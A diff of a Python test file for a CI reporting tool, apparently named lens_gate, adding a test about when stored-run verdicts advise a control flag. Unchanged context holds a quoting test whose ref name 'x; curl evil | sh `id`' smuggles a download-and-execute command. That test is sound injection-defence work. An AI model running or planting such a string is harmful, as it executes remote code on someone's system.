@@ -9,10 +9,12 @@ import pytest
 from lens_gate.artifacts.analysis import StoredHistory
 from lens_gate.artifacts.run import Comparison, Uncovered
 from lens_gate.artifacts.verdict import CheckKind, Verdict
+from lens_gate.reports.explain import explain
+from lens_gate.reports.explain_finding import explain_findings
 from lens_gate.reports.page import ReportView
 from lens_gate.reports.view import run_view, view
 from lens_gate.vocabulary.metrics import Direction, Hypothesis
-from lens_gate.vocabulary.outcomes import Ending, ExitCode, Outcome, Severity
+from lens_gate.vocabulary.outcomes import Decision, Ending, ExitCode, Outcome, Severity
 from lens_gate.vocabulary.requests import Arm
 from tests.builders import (
     SERIES,
@@ -316,6 +318,24 @@ def test_hostile_names_are_quoted_in_commands() -> None:
     shown = view_of(UNCLEAR, comparison=comparison)
     assert shown.next_step is not None
     assert shown.next_step.startswith("lens-gate ci --against-ref 'x; curl evil | sh `id`'")
+
+
+def test_stored_runs_that_decide_nothing_can_be_kept_with_a_control() -> None:
+    advice = "`--control 0.2` with the same --baseline would take the day out."
+    verdicts = {
+        "stored": a_verdict(an_analysis(UNCLEAR, source="stored", comparison=None)),
+        "control": a_verdict(an_analysis(UNCLEAR, source="stored")),
+        "pairs": a_verdict(an_analysis(UNCLEAR)),
+        "classic": a_verdict(
+            an_analysis(UNCLEAR, source="stored", comparison=None, policy=a_policy(decision=Decision.CLASSIC))
+        ),
+        "passed": a_verdict(an_analysis(STEADY, source="stored", comparison=None)),
+    }
+    for name, verdict in verdicts.items():
+        stories = (explain(verdict, file="v.json"), explain_findings(verdict, verdict.analysis.findings))
+        texts = (view(verdict).second, *(" ".join(one.sections[-1].texts) for one in stories))
+        assert [advice in text for text in texts] == [name == "stored"] * 3, name
+    assert view(verdicts["stored"]).next_step == "lens-gate ci --against-ref main"
 
 
 def test_a_comparison_says_what_was_compared_and_when() -> None:
